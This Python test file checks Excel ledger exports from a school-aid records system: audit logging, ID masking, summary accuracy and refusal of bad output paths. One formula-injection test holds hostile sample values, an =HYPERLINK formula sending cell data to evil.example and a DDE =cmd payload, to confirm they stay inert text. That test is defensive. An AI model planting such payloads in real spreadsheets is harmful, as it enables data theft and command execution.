from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from aidoffice.db.errors import ReadOnlyDatabase
from aidoffice.db.models import AuditEntry, Household, Student
from aidoffice.demo import generate
from aidoffice.errors import InputRefused
from aidoffice.exporting.ledger import export_school_ledger, export_village_ledger
from aidoffice.ledgers.school import ensure_current_term
from aidoffice.ledgers.students import add_student, link_to_household
from aidoffice.ledgers.villages import get_or_create_village, village_tree
from aidoffice.privacy import find_sensitive
from tests.factories import student


@pytest.fixture
def demo_db(school_db):
    with school_db.unit_of_work() as s:
        generate(s, 300, today=date(2026, 11, 22))
    return school_db


def test_school_ledger_has_every_student_with_full_ids_as_text(demo_db, tmp_path):
    """The full ledger must list everyone with IDs Excel cannot mangle, and record who took it out and why."""
    out = tmp_path / "学籍台账.xlsx"
    with demo_db.unit_of_work(actor="王会计") as s:
        assert export_school_ledger(s, out, purpose="报县资助中心核对").rows == 300
    ws = load_workbook(out).active
    header = [c.value for c in ws[2]]
    assert header[:5] == ["序号", "姓名", "性别", "身份证件号", "全国学籍号"]
    ids = [ws.cell(row=r, column=4) for r in range(3, ws.max_row + 1)]
    assert len(ids) == 300
    assert all(isinstance(c.value, str) and len(c.value) == 18 and c.number_format == "@" for c in ids)
    with demo_db.reading() as s:
        first = s.scalars(select(Student).where(Student.id_number == ids[0].value)).one()
        assert ws.cell(row=3, column=2).value == first.name
        entry = s.scalars(select(AuditEntry).where(AuditEntry.action == "export")).one()
        assert entry.actor == "王会计" and entry.after["full_id_numbers"] is True
        assert entry.note.endswith("（含完整证件号，用途：报县资助中心核对）")  # who, and why


def _cells(path):
    wb = load_workbook(path)
    return [str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None]


@pytest.mark.parametrize("export", [export_school_ledger, export_village_ledger])
def test_a_masked_export_holds_no_full_sensitive_number_in_any_cell(demo_db, tmp_path, export):
    """Masked means masked everywhere: ID, 学籍号 (G + ID), phone, account — in every cell of every sheet."""
    out = tmp_path / "masked.xlsx"
    with demo_db.unit_of_work() as s:
        rows = export(s, out, mask=True).rows
    cells = _cells(out)
    assert rows > 100 and [c for c in cells if find_sensitive(c)] == []
    assert any(c[6:14] == "********" for c in cells)  # the masked IDs are there, not left out
    full = tmp_path / "full.xlsx"
    with demo_db.unit_of_work() as s:
        export(s, full, mask=False)
    assert any(find_sensitive(c) for c in _cells(full))  # the scan would have caught them


def test_text_typed_like_a_formula_is_exported_as_that_text(school_db, tmp_path):
    """Formula injection: a guardian or household head "named" =HYPERLINK(...) stays visible text, never a
    live formula, in both ledgers."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with school_db.unit_of_work() as s:
        st = add_student(s, 1, student("王小明", guardian_name=hostile, notes="=cmd|' /C calc'!A0"))
        village = get_or_create_village(s, "龙泉关镇", "黑崖沟村")
        hh = Household(village_id=village.id, household_no="0001", head_name="=1+1")
        s.add(hh)
        s.flush()
        link_to_household(s, st.id, hh.id, "子")
    for export, value in ((export_school_ledger, hostile), (export_village_ledger, "=1+1")):
        out = tmp_path / f"{export.__name__}.xlsx"
        with school_db.unit_of_work() as s:
            export(s, out)
        found = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if c.value == value]
        assert found and all(c.data_type == "s" for c in found), export.__name__


def test_an_export_on_a_read_only_database_writes_no_file(demo_db, tmp_path):
    """The audit entry comes first: if it cannot be written, no workbook of full ID numbers is left behind."""
    if demo_db.dialect != "sqlite":
        pytest.skip("a read-only database file is an SQLite case")
    from sqlalchemy import event

    from aidoffice.db.engine import Database

    ro = Database(demo_db.url)
    # the tests run as root, which ignores file modes: query_only makes SQLite refuse writes as a
    # read-only file does (SQLITE_READONLY)
    event.listen(ro.engine, "connect", lambda conn, _r: conn.execute("PRAGMA query_only=1"))
    ro.engine.dispose()
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "full.xlsx"
    with pytest.raises(ReadOnlyDatabase), ro.unit_of_work() as s:
        export_school_ledger(s, out)
    ro.dispose()
    assert list((tmp_path / "out").iterdir()) == []


def test_village_ledger_summary_matches_the_tree(demo_db, tmp_path):
    """The summary sheet is what inspectors read: it must agree with the village tree row for row."""
    out = tmp_path / "户籍台账.xlsx"
    with demo_db.unit_of_work() as s:
        export_village_ledger(s, out)
    with demo_db.reading() as s:
        tree = village_tree(s, ensure_current_term(s))
    wb = load_workbook(out)
    assert wb.sheetnames == ["村汇总", "学龄儿童"]
    rows = list(wb["村汇总"].iter_rows(min_row=3, values_only=True))
    expected = [
        (t.name, v.name, v.households, v.children, v.in_school, v.priority, v.aided, v.elsewhere)
        for t in tree
        for v in t.villages
    ]
    assert rows == expected
    children = list(wb["学龄儿童"].iter_rows(min_row=3, values_only=True))
    assert len(children) == sum(v.children for t in tree for v in t.villages)


def test_export_to_a_missing_folder_is_refused_and_writes_nothing(demo_db, tmp_path):
    """A mistyped folder must be refused in Chinese, leaving no stray workbook somewhere else."""
    with pytest.raises(InputRefused, match="不存在"), demo_db.unit_of_work() as s:
        export_school_ledger(s, tmp_path / "nope" / "x.xlsx")
    assert list(tmp_path.rglob("*.xlsx")) == []


def test_each_villages_summary_adds_up_from_its_rows_in_the_workbook(demo_db, tmp_path):
    """Review finding: 村汇总's 重点群体儿童 counted priority groups while the rows' 重点群体 column also
    named 留守/随迁, and 25 of 26 villages could not be checked by counting rows. Each row now says
    whether it counts, and every village's summary is the count of its rows."""
    out = tmp_path / "户籍台账.xlsx"
    with demo_db.unit_of_work() as s:
        export_village_ledger(s, out)
    wb = load_workbook(out)
    header = [c.value for c in wb["学龄儿童"][2]]
    col = {name: header.index(name) for name in ("乡镇", "村", "重点群体儿童", "所属群体")}
    counted: dict[tuple[str, str], list[int]] = {}
    for row in wb["学龄儿童"].iter_rows(min_row=3, values_only=True):
        c = counted.setdefault((row[col["乡镇"]], row[col["村"]]), [0, 0])
        c[0] += 1
        c[1] += row[col["重点群体儿童"]] == "是"
    summary = {(r[0], r[1]): [r[3], r[5]] for r in wb["村汇总"].iter_rows(min_row=3, values_only=True)}
    assert {k: v for k, v in summary.items() if v[0]} == counted
    assert sum(v[1] for v in counted.values()) > 0
    others = [
        r for r in wb["学龄儿童"].iter_rows(min_row=3, values_only=True) if r[col["重点群体儿童"]] == "否"
    ]
    assert any(r[col["所属群体"]] for r in others)  # 留守/随迁 shown, not counted
